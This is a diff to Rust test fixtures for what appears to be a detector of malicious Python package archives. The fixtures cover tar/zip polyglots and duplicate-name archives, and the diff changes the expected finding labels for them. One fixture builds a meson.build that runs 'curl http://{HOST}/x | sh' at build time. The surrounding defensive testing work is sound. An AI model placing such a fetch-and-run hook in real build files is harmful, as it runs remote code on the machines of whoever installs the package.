@@ -142,8 +142,8 @@ pub(crate) fn tars() -> Vec<Case> {
             file("demo-1.0/pyproject.toml", &evil),
         ])
     };
-    cases.seen("quiet-same-checksum", SDIST, twice(&quiet()), "archive-two-readings");
-    cases.told("quiet-same-checksum-tame", SDIST, twice(HARMLESS), "archive-two-readings");
+    cases.seen("quiet-same-checksum", SDIST, twice(&quiet()), "archive-duplicate-name");
+    cases.told("quiet-same-checksum-tame", SDIST, twice(HARMLESS), "archive-duplicate-name");
     cases.all
 }
 
@@ -281,7 +281,7 @@ pub(crate) fn streams() -> Vec<Case> {
     let outer = |setup: &[u8]| tar(&[sdist_parts(SETUP), vec![file("demo-1.0/demo/data.bin", &inner(setup))]].concat());
     // pip asks first whether a file ends as a zip does.
     let setup = [quiet(), SETUP.to_vec()].concat();
-    cases.seen("quiet-tar-that-ends-as-zip", "demo-1.0.tar", outer(&setup), "archive-polyglot");
+    cases.seen("quiet-tar-that-ends-as-zip", "demo-1.0.tar", outer(&setup), "archive-two-readings");
     let parts = [
         file("demo-1.0/PKG-INFO", METADATA),
         file("demo-1.0/setup.py", &setup),
@@ -573,7 +573,7 @@ pub(crate) fn builders() -> Vec<Case> {
             project("mesonpy", "meson-python"),
             "meson.build",
             format!("project('demo', 'c')\nrun_command('sh', '-c', 'curl http://{HOST}/x | sh', check: true)\n"),
-            "project('demo', 'c')\nrun_command('sh', '-c', 'uname -m', check: true)\n",
+            "project('demo', 'c')\nrun_command('python3', '-c', 'import numpy; print(numpy.get_include())', check: true)\n",
         ),
         (
             "cmake",
